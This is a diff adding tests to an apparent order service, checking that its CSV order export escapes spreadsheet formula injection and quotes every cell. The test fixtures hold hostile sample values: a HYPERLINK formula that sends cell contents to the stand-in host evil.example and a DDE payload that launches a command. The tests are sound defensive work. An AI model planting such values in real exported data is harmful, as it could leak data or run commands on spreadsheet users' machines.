@@ -14,6 +14,7 @@ from sqlalchemy import func, select
 from sqlalchemy.orm import Session
 
 from doorstep.models import InventoryLevel, Node, Order, OutboxEvent, Package, Product
+from doorstep.orders import views
 from doorstep.orders.schemas import OrderIn
 from tests.shop import DOWNTOWN_CHANDLER, NORTH_PHOENIX, Shop, local, open_shop
 
@@ -534,6 +535,46 @@ def test_list_search_paginate_and_export(client: TestClient, shop: Shop) -> None
     assert len(rows) == 5
     assert rows[0]["items"] == "1 x PAN-28"
     assert rows[0]["packages"].endswith(":created")
+
+
+# What a shopper or a merchant's page may type that a spreadsheet would run as a formula.
+FORMULAS = {
+    "recipient_name": '=HYPERLINK("http://evil.example/?"&A1,"Ana")',
+    "recipient_phone": "+1 480 555 0101",
+    "recipient_email": "-2+3@example.com",
+    "address": "@SUM(1+1)*cmd|' /C calc'!A0",
+    "merchant_reference": '=1+2";=1+2',
+    "payment_reference": "-1",
+}
+
+
+def test_the_csv_export_shows_formulas_as_text(client: TestClient, shop: Shop) -> None:
+    body = {
+        "items": [{"sku": "PAN-28", "quantity": 1}],
+        "destination": DOWNTOWN_CHANDLER | {"address": FORMULAS["address"]},
+        "speed": "same_day",
+        "recipient": {
+            "name": FORMULAS["recipient_name"],
+            "phone": FORMULAS["recipient_phone"],
+            "email": FORMULAS["recipient_email"],
+        },
+        "merchant_reference": FORMULAS["merchant_reference"],
+        "payment_reference": FORMULAS["payment_reference"],
+    }
+    assert _order(client, shop, body).status_code == 201
+    export = client.get("/v1/orders.csv", headers=shop.headers()).text
+    [row] = csv.DictReader(io.StringIO(export))
+    assert {column: row[column] for column in FORMULAS} == {
+        column: f"'{value}" for column, value in FORMULAS.items()
+    }
+    # Every cell is quoted, so a separator inside one cannot start another.
+    assert all(line.startswith('"') and line.endswith('"') for line in export.splitlines())
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_a_cell_that_would_start_a_formula_is_escaped(start: str) -> None:
+    assert views.csv_cell(f"{start}cmd") == f"'{start}cmd"
+    assert views.csv_cell(f"x{start}cmd") == f"x{start}cmd"
 
 
 def test_orders_are_private_to_their_merchant(
